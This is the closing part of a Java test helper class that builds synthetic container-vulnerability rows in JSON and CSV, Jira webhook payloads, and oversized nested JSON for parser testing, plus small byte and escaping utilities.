    /** One Low row of a registry of its own, as JSON text, after {@code change}. */
    private String rowText(Consumer<ObjectNode> change) {
        return rowText(new DefenderRows(json, "hc"), change);
    }

    private String rowText(DefenderRows rows, Consumer<ObjectNode> change) {
        Instant now = Instant.now();
        ObjectNode row = rows.row("app/api", "sha256:" + "a".repeat(64), now.minusSeconds(5 * 86_400),
                now.minusSeconds(4 * 86_400), "CVE-2024-9" + (++serial), "Low", rows.os(null), "libfoo", "1.0.0",
                "1.0.1");
        ((ObjectNode) row.path("properties").path("additionalData")).put("cvssV30Score", 7.5);
        change.accept(row);
        try {
            return json.writeValueAsString(row);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private String rowArray(Consumer<ObjectNode> change) {
        return "[" + rowText(change) + "]";
    }

    /** A portal CSV of one Low row of a registry of its own, with {@code values} replacing columns. */
    private String csvRow(Map<String, String> values) {
        Map<String, String> row = new LinkedHashMap<>();
        row.put("registryName", "hcsv" + (++serial) + ".azurecr.io");
        row.put("repositoryName", "app/api");
        row.put("imageDigest", "sha256:" + "b".repeat(64));
        row.put("vulnName", "CVE-2024-8" + serial);
        row.put("scanFindingSeverity", "Low");
        row.put("packageName", "zlib");
        row.put("installedPackageVersion", "1.2.11");
        row.put("fixedPackageVersion", "1.2.13");
        row.put("timeGenerated", Instant.now().minusSeconds(86_400).toString());
        row.put("cvssV30Score", "5.3");
        row.put("tags", "latest");
        row.putAll(values);
        StringBuilder csv = new StringBuilder(String.join(",", row.keySet())).append("\r\n");
        List<String> cells = row.values().stream().map(HostileCorpus::csvCell).toList();
        return csv.append(String.join(",", cells)).append("\r\n").toString();
    }

    private static String csvCell(String value) {
        return value.contains(",") || value.contains("\"") || value.contains("\n") || value.contains("\r")
                ? "\"" + value.replace("\"", "\"\"") + "\"" : value;
    }

    private static String issueUpdated(String status, String resolution) {
        return "{\"webhookEvent\":\"jira:issue_updated\",\"user\":{\"accountId\":\"person-1\"},\"issue\":{\"id\":\"77"
                + "900\",\"key\":\"SEC-77900\",\"fields\":{\"status\":" + status + ",\"resolution\":" + resolution
                + "}},\"changelog\":{\"items\":[{\"field\":\"status\"}]}}";
    }

    private static ObjectNode artifact(ObjectNode row) {
        return (ObjectNode) row.path("properties").path("additionalData").path("artifactDetails");
    }

    private static ObjectNode software(ObjectNode row) {
        return (ObjectNode) row.path("properties").path("additionalData").path("softwareDetails");
    }

    private static ObjectNode vulnerability(ObjectNode row) {
        return (ObjectNode) row.path("properties").path("additionalData").path("vulnerabilityDetails");
    }

    private static void set(ObjectNode row, String path, JsonNode value) {
        String[] names = path.split("\\.");
        ObjectNode parent = row;
        for (int i = 0; i < names.length - 1; i++) {
            parent = parent.withObjectProperty(names[i]);
        }
        parent.set(names[names.length - 1], value);
    }

    private static byte[] nestedRow(int size) {
        String head = "[{\"id\":\"x\",\"properties\":{\"n\":[";
        String item = "{\"a\":{\"a\":{}}},";
        ByteArrayOutputStream out = new ByteArrayOutputStream(size + 64);
        out.writeBytes(bytes(head));
        byte[] unit = bytes(item);
        while (out.size() + unit.length < size) {
            out.writeBytes(unit);
        }
        out.writeBytes(bytes("{}]}}]"));
        return out.toByteArray();
    }

    private static byte[] read(String path) {
        try {
            return Files.readAllBytes(Path.of(path));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    static byte[] bytes(String s) {
        return s.getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] splice(String text, String marker, byte[] inserted) {
        int at = text.indexOf(marker);
        return concat(bytes(text.substring(0, at)), inserted, bytes(text.substring(at + marker.length())));
    }

    private static byte[] concat(byte[]... parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (byte[] part : parts) {
            out.writeBytes(part);
        }
        return out.toByteArray();
    }

    private static String hex(byte[] bytes) {
        StringBuilder out = new StringBuilder();
        for (byte b : bytes) {
            out.append(String.format("%02X ", b));
        }
        return out.toString().trim();
    }

    private static String enc(String s) {
        return URLEncoder.encode(s, StandardCharsets.UTF_8);
    }

    private static String jsonEscape(String s) {
        StringBuilder out = new StringBuilder();
        for (char c : s.toCharArray()) {
            out.append(c < 0x20 || c >= 0x7f && c < 0xa0 ? String.format("\\u%04x", (int) c) : String.valueOf(c));
        }
        return out.toString();
    }

}
